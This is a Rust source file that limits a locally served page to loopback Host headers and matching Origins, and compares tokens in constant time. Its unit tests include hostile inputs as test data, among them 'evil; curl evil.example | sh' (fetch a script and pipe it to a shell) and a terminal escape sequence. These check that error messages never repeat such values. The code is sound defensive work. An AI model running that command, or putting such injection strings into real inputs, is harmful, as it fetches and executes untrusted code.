//! Which requests are allowed: those of the page itself, and of a browser that opens it on this machine.

use axum::http::{HeaderMap, header};
use sateen_command_line::{is_machine_name, machine_address, without_port};

/// Why a request is refused, if it is.
pub fn refusal(headers: &HeaderMap, port: u16) -> Option<String> {
    let text = |name| headers.get(name).map(|value| String::from_utf8_lossy(value.as_bytes()).into_owned());
    let host = text(header::HOST).unwrap_or_default();
    if !is_this_page(&host, port) {
        return Some(if is_like_a_host(&host) {
            format!("the request is for `{host}`, and this page answers to loopback addresses only")
        } else {
            "the request's Host header is not the address of this page, which answers to loopback addresses only"
                .to_owned()
        });
    }
    let origin = text(header::ORIGIN)?;
    (origin.strip_prefix("http://") != Some(host.as_str()))
        .then(|| format!("a web page from `{}` may not use this one", origin.escape_debug()))
}

/// Whether an answer may repeat this.
fn is_like_a_host(text: &str) -> bool {
    let name = without_port(text);
    is_machine_name(name) || machine_address(name).is_some()
}

fn is_this_page(host: &str, port: u16) -> bool {
    let (name, at) = match host.rsplit_once(':') {
        Some((name, digits)) if !digits.is_empty() && digits.bytes().all(|digit| digit.is_ascii_digit()) => {
            (name, digits.parse().ok())
        }
        // A browser leaves out the default port of http.
        _ => (host, Some(80)),
    };
    let is_loopback = name.eq_ignore_ascii_case("localhost")
        || machine_address(name).is_some_and(|address| address.is_loopback());
    is_loopback && at == Some(port)
}

/// Whether two secrets are equal, in a time that does not reveal where they differ.
pub fn is_same(one: &str, other: &str) -> bool {
    let differences = one.bytes().zip(other.bytes()).fold(0, |all, (one, other)| all | (one ^ other));
    one.len() == other.len() && differences == 0
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(host: &str, origin: Option<&str>) -> bool {
        let mut headers = HeaderMap::new();
        headers.insert(header::HOST, host.parse().expect("a value"));
        if let Some(origin) = origin {
            headers.insert(header::ORIGIN, origin.parse().expect("a value"));
        }
        refusal(&headers, 7710).is_some()
    }

    #[test]
    fn other_pages_and_other_names_are_refused() {
        for host in ["127.0.0.1:7710", "localhost:7710", "[::1]:7710", "127.9.9.9:7710"] {
            assert!(!refused(host, None), "{host}");
            assert!(!refused(host, Some(&format!("http://{host}"))), "{host}");
        }
        for host in
            ["evil.example:7710", "127.0.0.1", "127.0.0.1:7711", "127.0.0.1.evil.example:7710", "", ":7710"]
        {
            assert!(refused(host, None), "{host}");
        }
        for origin in ["http://evil.example", "null", "https://127.0.0.1:7710", "http://127.0.0.1:7711"] {
            assert!(refused("127.0.0.1:7710", Some(origin)), "{origin}");
        }
    }

    #[test]
    fn a_host_that_is_not_the_name_of_a_machine_is_not_repeated() {
        let why = |host: &str| {
            let headers = [(header::HOST, host.parse().expect("a value"))].into_iter().collect();
            refusal(&headers, 7710).expect("it is refused")
        };
        assert!(why("grid.example:80").contains("`grid.example:80`"));
        assert!(why("[fd00::1]:80").contains("`[fd00::1]:80`"));
        for hostile in
            ["evil; curl evil.example | sh", "evil`", "evil\u{9b}2J", "--evil", "[evil]", &"evil".repeat(100)]
        {
            assert!(!why(hostile).contains("evil"), "{hostile}");
        }
    }

    #[test]
    fn tokens_are_compared_whole() {
        assert!(is_same("ab", "ab") && is_same("", ""));
        assert!(!is_same("ab", "abc") && !is_same("ab", "aB") && !is_same("", "a"));
    }
}
